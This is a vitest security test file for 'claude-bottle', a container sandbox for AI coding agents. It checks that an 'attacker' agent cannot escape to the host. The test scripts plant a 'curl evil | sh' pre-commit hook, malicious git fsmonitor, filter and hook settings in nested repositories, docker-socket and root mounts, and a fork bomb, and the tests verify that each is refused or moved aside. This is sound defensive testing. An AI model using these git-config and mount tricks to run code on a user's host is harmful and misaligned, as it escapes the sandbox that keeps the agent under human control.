import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, readdirSync, renameSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { spawnSync } from "node:child_process";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { ISOLATIONS } from "@claude-bottle/core";
import { attempt, buildTestRegistryImage, busyboxContext, busyboxGitContext } from "@claude-bottle/test-support";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { containersLabelled, docker, removeAgentTraces, removeHomesOf, requireDocker } from "./support/docker.js";
import { createProject, type TestProject } from "./support/project.js";
import { CLI_BIN, runCli } from "./support/run-cli.js";
import { TmuxSession } from "./support/tmux.js";

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", ["-c", "user.name=Test", "-c", "user.email=test@example.com", ...args], { cwd, encoding: "utf8" });

/**
 * SECURITY.md points 1, 2 and 6 on the docker backend, as the issue's attack
 * goes: a bottle writes the files the host reads, a clone ships an agent file
 * that replaces `claude`, a recipe asks for the engine's socket and /.
 * Under both runtimes: for gvisor the user's config makes it every bottle's
 * default, as a user who wants it everywhere would.
 */
describe.each(ISOLATIONS)("a bottle is a one-way door (docker, %s)", (isolation) => {
  let project: TestProject;
  let terminal: TmuxSession | undefined;
  const run = (args: string[], env: Record<string, string> = {}) => runCli(args, { cwd: project.dir, env: { ...project.env, ...env } });
  const agentYaml = (contextDir: string, lines: string[]) =>
    [`build: { dockerfile: ${join(contextDir, "Dockerfile")}, context: ${contextDir} }`, ...lines, ""].join("\n");
  const bottlesOfThisProject = () => containersLabelled(`dev.claude-bottle.workspace=${project.dir}`);

  beforeAll(() => {
    requireDocker();
    project = createProject();
    mkdirSync(join(project.configHome, "claude-bottle"), { recursive: true });
    writeFileSync(join(project.configHome, "claude-bottle", "config.yaml"), `isolation: ${isolation}\n`);
    git(project.dir, "init", "-q");
    writeFileSync(join(project.dir, "README"), "hello\n");
    git(project.dir, "add", "README");
    git(project.dir, "commit", "-q", "-m", "initial");
    // The attacker: a user-level agent, so it runs without approval, as any agent a user trusts would.
    project.writeUserAgent("attacker", agentYaml(busyboxGitContext(), ["command: [sh, -c]", "network: false"]));
  });

  afterEach(() => terminal?.kill());
  afterAll(() => removeHomesOf(project.dir));

  afterAll(() => {
    // A bottle still going (a terminal test's) would hold its image.
    for (const bottle of bottlesOfThisProject()) docker("rm", "-f", bottle);
  });

  it("inside the bottle, .claude-bottle, .git/hooks and .git/config are read-only, while git add and commit work", async () => {
    const script = [
      attempt("agent file", "mkdir -p /workspace/.claude-bottle/agents && echo 'image: evil' > /workspace/.claude-bottle/agents/claude.yaml"),
      attempt("hook", "echo 'curl evil | sh' > /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit"),
      attempt("hook rename", "mv /workspace/.git/hooks /workspace/.git/hooks-old"),
      attempt("config append", "echo '[core] fsmonitor = evil' >> /workspace/.git/config"),
      attempt("config by git", "git -C /workspace config core.hooksPath /tmp"),
      attempt("config replaced", "rm -f /workspace/.git/config"),
      attempt("commondir", "echo ../evil/.git > /workspace/.git/commondir"),
      // The parent of the read-only controls: moved away and made anew, the host would find a git directory the bottle wrote.
      attempt("git dir moved away", "mv /workspace/.git /workspace/.git.orig && mkdir /workspace/.git && echo '[core] fsmonitor = evil' > /workspace/.git/config"),
      attempt("git dir replaced by a file", "mv /workspace/.git /workspace/.git.orig; echo 'gitdir: /workspace/.evil' > /workspace/.git"),
      attempt("copy moved over the git dir", "mkdir -p /tmp/g && cp -a /workspace/.git/. /tmp/g/ && mv -T /tmp/g /workspace/.git"),
      attempt("commit", "cd /workspace && echo work > work.txt && git add work.txt && git -c user.name=Agent -c user.email=agent@example.com commit -q -m 'agent work'"),
    ].join("; ");
    const result = await run(["start", "attacker", "--", script]);
    expect(result.stdout.trim().split("\n")).toEqual([
      "agent file: refused",
      "hook: refused",
      "hook rename: refused",
      "config append: refused",
      "config by git: refused",
      "config replaced: refused",
      "commondir: refused",
      "git dir moved away: refused",
      "git dir replaced by a file: refused",
      "copy moved over the git dir: refused",
      "commit: written",
    ]);
    expect(existsSync(join(project.dir, ".git.orig"))).toBe(false);
    expect(existsSync(join(project.dir, ".claude-bottle", "agents"))).toBe(false);
    expect(readFileSync(join(project.dir, ".git", "config"), "utf8")).not.toMatch(/fsmonitor|hooksPath/);
    expect(existsSync(join(project.dir, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(git(project.dir, "log", "--format=%s")).toBe("agent work\ninitial\n");
  });

  it("refuses a recipe that asks for the engine's socket or /, whoever wrote it, before anything runs", async () => {
    const context = busyboxContext();
    for (const [source, why] of [
      ["/var/run/docker.sock", "container engine's socket"],
      ["/", "root directory"],
    ]) {
      project.writeAgent("claude", agentYaml(context, ["command: [sh, -c, 'ls /host']", `mounts: [{ source: ${source}, target: /host }]`]));
      const result = await run(["start", "claude"]);
      expect(result.code).toBe(125);
      expect(result.stderr).toContain(join(project.dir, ".claude-bottle", "agents", "claude.yaml"));
      expect(result.stderr).toContain("mounts[0].source");
      expect(result.stderr).toContain(why);
      expect(bottlesOfThisProject()).toEqual([]);
    }
    rmSync(join(project.dir, ".claude-bottle", "agents"), { recursive: true });
  });

  it("runs a cloned agent file that replaces `claude` only after the user approved exactly that file", async () => {
    const marker = join(project.dir, "pwned");
    const context = join(project.dir, "agent-image");
    execFileSync("cp", ["-r", busyboxContext(), context]);
    const file = project.writeAgent("claude", "build: { context: ../../agent-image, dockerfile: ../../agent-image/Dockerfile }\ncommand: [sh, -c, 'echo ran > /workspace/pwned']\nnetwork: false\n");

    // Without a terminal: the plan on stderr, exit 125, the exact command in the hint, nothing run.
    const refused = await run(["start", "claude"]);
    expect(refused.code).toBe(125);
    expect(refused.stderr).toContain(`from ${file} (this project agent file)`);
    expect(refused.stderr).toContain('THIS FILE REPLACES THE BUILT-IN AGENT "claude"');
    expect(refused.stderr).toContain(`${project.dir} -> /workspace (read-write)`);
    expect(refused.stderr).toContain("processes");
    expect(refused.stderr).toContain("hint: Review the plan above, then approve it with: claude-bottle trust claude --yes");
    expect(existsSync(marker)).toBe(false);
    expect(bottlesOfThisProject()).toEqual([]);

    // On a terminal: the plan, a question; anything but "yes" runs nothing.
    const inTerminal = () => {
      const script = join(project.dir, "..", "start-in-terminal.sh");
      writeFileSync(
        script,
        [
          `cd ${project.dir}`,
          "unset CI",
          `export XDG_CONFIG_HOME=${project.configHome} XDG_CACHE_HOME=${project.cacheHome} XDG_STATE_HOME=${project.stateHome} XDG_DATA_HOME=${project.dataHome}`,
          `${process.execPath} ${CLI_BIN} start claude`,
          `echo "exit $?"`,
          "exec sleep 600",
        ].join("\n"),
      );
      return new TmuxSession(`sh ${script}`, { columns: 160, rows: 50 });
    };
    terminal = inTerminal();
    const asked = await terminal.waitForScreen("the approval question", (s) => s.includes('Type "yes" to approve'));
    expect(asked).toContain("THIS FILE REPLACES THE BUILT-IN");
    terminal.type("y");
    await terminal.waitForScreen("the refusal", (s) => s.includes("exit 125"));
    expect(terminal.screen()).toContain("Not approved; nothing was run.");
    expect(existsSync(marker)).toBe(false);
    terminal.kill();

    terminal = inTerminal();
    await terminal.waitForScreen("the approval question", (s) => s.includes('Type "yes" to approve'));
    terminal.type("yes");
    await terminal.waitForScreen("the agent to run", (s) => s.includes("exit 0"), 120_000);
    expect(readFileSync(marker, "utf8")).toBe("ran\n");
    rmSync(marker);

    // Approved: it runs without asking, until the file changes.
    expect((await run(["start", "claude"])).code).toBe(0);
    const listed = JSON.parse((await run(["trust", "--list", "--json"])).stdout) as { project: string; subject: string }[];
    expect(listed).toEqual([expect.objectContaining({ project: project.dir, subject: "agent:claude" })]);

    writeFileSync(file, readFileSync(file, "utf8").replace("echo ran", "echo changed"));
    const changed = await run(["start", "claude"]);
    expect(changed.code).toBe(125);
    expect(changed.stderr).toContain("CHANGED since you approved it");
    expect(readFileSync(join(context, "Dockerfile"), "utf8")).toContain("FROM scratch");

    // The Dockerfile is part of what was approved too.
    expect((await run(["trust", "claude", "--yes"])).code).toBe(0);
    writeFileSync(join(context, "Dockerfile"), `${readFileSync(join(context, "Dockerfile"), "utf8")}\nLABEL changed=1\n`);
    expect((await run(["start", "claude"])).code).toBe(125);

    // Revoked: it asks again.
    expect((await run(["trust", "claude", "--yes"])).code).toBe(0);
    expect((await run(["start", "claude"])).code).toBe(0);
    const revoked = await run(["trust", "--revoke"]);
    expect(revoked.stdout).toContain("Revoked agent:claude");
    expect((await run(["start", "claude"])).code).toBe(125);
    rmSync(join(project.dir, ".claude-bottle", "agents"), { recursive: true });
  });

  it("gives every bottle a process and memory limit by default, and a fork bomb stays inside", async () => {
    const name = (await run(["start", "--detach", "attacker", "--", "sleep 60"])).stdout.trim();
    try {
      const limits = JSON.parse(docker("inspect", "--format", "{{json .HostConfig}}", name)) as { PidsLimit: number; Memory: number; MemorySwap: number };
      // gVisor's own threads (its sentry and gofer) come on top, so the agent keeps its 4096 (GVISOR_OWN_PIDS).
      expect(limits.PidsLimit).toBe(isolation === "gvisor" ? 4096 + 64 : 4096);
      expect(limits.Memory).toBeGreaterThanOrEqual(512 * 2 ** 20);
      expect(limits.MemorySwap).toBe(limits.Memory);
      const listed = (JSON.parse((await run(["ls", "--json"])).stdout) as { name: string; isolation?: string }[]).find((b) => b.name === name);
      expect(listed?.isolation).toBe(isolation);
    } finally {
      docker("rm", "-f", name);
    }
    project.writeUserAgent("forker", agentYaml(busyboxContext(), ["command: [sh, -c]", "network: false", "resources: { pids: 32 }"]));
    // Fifty sleeps cannot all start under a limit of 32 processes: the forking shell fails, the bottle goes on.
    // Processes are counted with shell builtins only, as nothing more can be forked while the sleeps hold the limit.
    const forked = await run(["start", "forker", "--", "(for i in $(seq 50); do sleep 5 & done) 2>/dev/null; n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; echo $n"]);
    if (isolation === "gvisor") {
      // Under gVisor (ptrace) each process of the agent costs host threads of the sandbox's: the limit is hit by
      // gVisor itself, which ends the whole bottle rather than failing the agent's fork. Contained all the same:
      // the bottle is gone, and the next one starts.
      expect(forked.code).not.toBe(0);
      expect((await run(["start", "forker", "--", "echo alive"])).stdout.trim()).toBe("alive");
      return;
    }
    expect(forked.code).toBe(0);
    const processes = Number(forked.stdout.trim());
    expect(processes).toBeGreaterThan(10);
    expect(processes).toBeLessThanOrEqual(32);
  });

  describe("git directories the bottle nests in the workspace", () => {
    // Outside every mount of the bottle: only a program run on the host can make these.
    const markers = () => join(project.dir, "..", "markers");
    const planted = (name: string) => `touch ${join(markers(), name)}; cat`;
    const found = () => (existsSync(markers()) ? readdirSync(markers()).sort() : []);
    /** The git a user runs there afterwards, as it is: no settings of claude-bottle's. */
    const usersGit = (cwd: string, ...args: string[]) => spawnSync("git", args, { cwd, encoding: "utf8" });
    /** A repository made in the bottle, its files then given a filter, an fsmonitor and a hook that run on the host. */
    const nestedRepository = (dir: string, name: string) =>
      [
        `mkdir -p ${dir} && cd ${dir} && git init -q && echo hi > f && git add f && git commit -q -m n && mkdir -p .git/info .git/hooks`,
        "echo '* filter=evil' > .git/info/attributes",
        `printf '[filter "evil"]\\n\\tclean = ${planted(`${name}-clean`)}\\n[core]\\n\\tfsmonitor = ${planted(`${name}-fsmonitor`)}\\n' >> .git/config`,
        `printf '#!/bin/sh\\ntouch ${join(markers(), `${name}-hook`)}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
        "sleep 1 && touch f",
      ].join(" && ");

    beforeAll(() => mkdirSync(markers(), { recursive: true }));

    it("moves aside the config, hooks and attributes of each git directory the bottle wrote, so the user's git obeys none of them", async () => {
      const script = [
        "set -e",
        // The issue's example: a repository nested in the workspace.
        nestedRepository("/workspace/nested", "nested"),
        // A submodule whose git directory the bottle made in .git/modules, its gitlink staged in the user's index.
        "cd /workspace && mkdir lib && cd lib && git init -q && echo x > f && git add f && git commit -q -m l",
        "mkdir -p /workspace/.git/modules && mv .git /workspace/.git/modules/lib && echo 'gitdir: ../.git/modules/lib' > .git",
        "cd /workspace && git add lib",
        `printf '[core]\\n\\tfsmonitor = ${planted("lib-fsmonitor")}\\n' >> /workspace/.git/modules/lib/config`,
        // One hidden where no walk of the checkout looks, in the objects of the user's git directory.
        "mkdir /workspace/hidden && cd /workspace/hidden && git init -q && echo y > f && git add f && git commit -q -m h",
        "mv .git /workspace/.git/objects/ev && echo 'gitdir: ../.git/objects/ev' > .git",
        `printf '[core]\\n\\tfsmonitor = ${planted("hidden-fsmonitor")}\\n' >> /workspace/.git/objects/ev/config`,
        "echo planted",
      ].join("\n");
      const result = await run(["start", "attacker", "--", script]);
      expect(result.stdout, result.stderr).toBe("planted\n");
      const gitDirs = [join(project.dir, "nested", ".git"), join(project.dir, ".git", "modules", "lib"), join(project.dir, ".git", "objects", "ev")];
      for (const gitDir of gitDirs) {
        expect(result.stderr).toContain(`wrote git files in ${gitDir}; moved aside as config.bottle-written`);
        expect(existsSync(join(gitDir, "config"))).toBe(false);
        expect(readFileSync(join(gitDir, "config.bottle-written"), "utf8")).toContain("fsmonitor");
      }
      const nested = join(project.dir, "nested");
      expect(existsSync(join(nested, ".git", "hooks"))).toBe(false);
      expect(existsSync(join(nested, ".git", "info", "attributes"))).toBe(false);
      // The user's own git directory is as it was: its config and hooks were never the bottle's to write.
      expect(readFileSync(join(project.dir, ".git", "config"), "utf8")).not.toMatch(/fsmonitor|filter/);
      expect(existsSync(join(project.dir, ".git", "hooks"))).toBe(true);

      const later = new Date(Date.now() + 5000);
      utimesSync(join(nested, "f"), later, later);
      expect(usersGit(project.dir, "status", "--porcelain").stdout).toContain("A  lib");
      for (const dir of ["nested", "lib", "hidden"]) usersGit(join(project.dir, dir), "status", "--porcelain");
      usersGit(nested, "commit", "-q", "--allow-empty", "-m", "by the user");
      expect(found()).toEqual([]);
      // What it would have been: the config put back, the user's git runs the bottle's programs.
      renameSync(join(nested, ".git", "config.bottle-written"), join(nested, ".git", "config"));
      renameSync(join(nested, ".git", "info", "attributes.bottle-written"), join(nested, ".git", "info", "attributes"));
      usersGit(nested, "status", "--porcelain");
      expect(found()).toEqual(["nested-clean", "nested-fsmonitor"]);
      for (const name of found()) rmSync(join(markers(), name));
    });

    it("moves them aside when a detached bottle is stopped or removed, too", async () => {
      const waitFor = async (file: string) => {
        for (let i = 0; i < 300 && !existsSync(file); i++) await new Promise((resolve) => setTimeout(resolve, 100));
        expect(existsSync(file)).toBe(true);
      };
      // One after the other: the end of either looks at the whole workspace, the other's writes included.
      const plant = async (name: string) => {
        const script = ["set -e", nestedRepository(`/workspace/${name}`, name), `touch /workspace/${name}.planted`, "sleep 120"].join("\n");
        const started = await run(["start", "-d", "attacker", "--", script]);
        expect(started.code, started.stderr).toBe(0);
        await waitFor(join(project.dir, `${name}.planted`));
        return started.stdout.trim();
      };
      const first = await plant("stopped");
      const stopped = await run(["stop", first]);
      expect(stopped.code, stopped.stderr).toBe(0);
      expect(stopped.stderr).toContain(`wrote git files in ${join(project.dir, "stopped", ".git")}; moved aside as config.bottle-written, hooks.bottle-written, attributes.bottle-written`);
      expect((await run(["rm", first])).code).toBe(0);
      const removed = await run(["rm", "--force", await plant("removed")]);
      expect(removed.code, removed.stderr).toBe(0);
      expect(removed.stderr).toContain(`wrote git files in ${join(project.dir, "removed", ".git")}; moved aside as config.bottle-written`);
      for (const name of ["stopped", "removed"]) {
        expect(existsSync(join(project.dir, name, ".git", "config"))).toBe(false);
        usersGit(join(project.dir, name), "status", "--porcelain");
      }
      expect(found()).toEqual([]);
    });

    it("settles a worktree without running git in the repository the bottle nested there, and keeps the worktree for it", async () => {
      const script = [
        "set -e",
        nestedRepository("/workspace/nested", "wt"),
        "cd /workspace && git add nested",
        // A submodule whose git directory is hidden in the shared objects/, the one part of the repository the bottle writes.
        "common=$(cd \"$(sed -n 's/^gitdir: //p' .git)\" && cd \"$(cat commondir)\" && pwd)",
        "mkdir lib && cd lib && git init -q && echo x > f && git add f && git commit -q -m l",
        "mv .git \"$common/objects/lib\" && echo \"gitdir: $common/objects/lib\" > .git && cd /workspace && git add lib",
        "mkdir -p \"$common/objects/lib/info\" && echo '* filter=p' > \"$common/objects/lib/info/attributes\"",
        `printf '[filter "p"]\\n\\tprocess = ${planted("lib-process")}\\n' >> "$common/objects/lib/config"`,
        "sleep 1 && touch lib/f",
        "echo planted",
      ].join("\n");
      const result = await run(["start", "--worktree", "nested-try", "attacker", "--", script]);
      expect(result.stdout, result.stderr).toBe("planted\n");
      const path = /left uncommitted changes in (\S+) \(branch nested-try\)/.exec(result.stderr)?.[1];
      expect(path, result.stderr).toBeDefined();
      expect(found()).toEqual([]);
      expect(result.stderr).toContain(`wrote git files in ${join(path!, "nested", ".git")}; moved aside as config.bottle-written`);
      expect(existsSync(join(path!, "nested", ".git", "config"))).toBe(false);
      expect(result.stderr).toContain(`wrote git files in ${join(project.dir, ".git", "objects", "lib")}; moved aside as config.bottle-written`);
      git(project.dir, "worktree", "remove", "--force", path!);
      git(project.dir, "branch", "-D", "nested-try");
    });
  });
});

/** The same door through the smolvm double: approval is the host's, whichever backend runs the bottle. */
describe("a bottle is a one-way door (smolmachines, through the smolvm double)", () => {
  let project: TestProject;
  const smolvm = fileURLToPath(new URL("../../backend-smolmachines/test/fixtures/smolvm", import.meta.url));
  const run = (args: string[]) =>
    runCli(args, {
      cwd: project.dir,
      env: {
        ...project.env,
        CLAUDE_BOTTLE_BACKEND: "smolmachines",
        CLAUDE_BOTTLE_SMOLVM: smolvm,
        CLAUDE_BOTTLE_REGISTRY_IMAGE: buildTestRegistryImage(),
        SMOLVM_DOUBLE_STATE: join(project.dir, "..", "smolvm-state"),
      },
    });

  beforeAll(() => {
    requireDocker();
    project = createProject();
    git(project.dir, "init", "-q");
  });

  it("runs a cloned agent file only after approval, and its bottle cannot write the agent files", async () => {
    const context = join(project.dir, "agent-image");
    execFileSync("cp", ["-r", busyboxContext(), context]);
    const script = "(echo image: evil > /workspace/.claude-bottle/agents/evil.yaml) 2>/dev/null && echo written || echo refused";
    project.writeAgent("claude", `build: { context: ../../agent-image, dockerfile: ../../agent-image/Dockerfile }\ncommand: [sh, -c, "${script}"]\nnetwork: false\n`);
    const refused = await run(["start", "claude"]);
    expect(refused.code).toBe(125);
    expect(refused.stderr).toContain('THIS FILE REPLACES THE BUILT-IN AGENT "claude"');
    expect(refused.stderr).toContain("backend    smolmachines (built-in)");
    expect(refused.stderr).toContain("claude-bottle trust claude --yes");

    expect((await run(["trust", "claude", "--yes"])).code).toBe(0);
    const approved = await run(["start", "claude"]);
    expect(approved).toMatchObject({ code: 0, stdout: "refused\n" });
  });
});

// After both doors: the images their agents were built into. "claude" is also a real user's agent: only this run's images.
afterAll(() => {
  removeAgentTraces(["attacker", "forker"]);
  removeAgentTraces(["claude"], { shared: true });
});
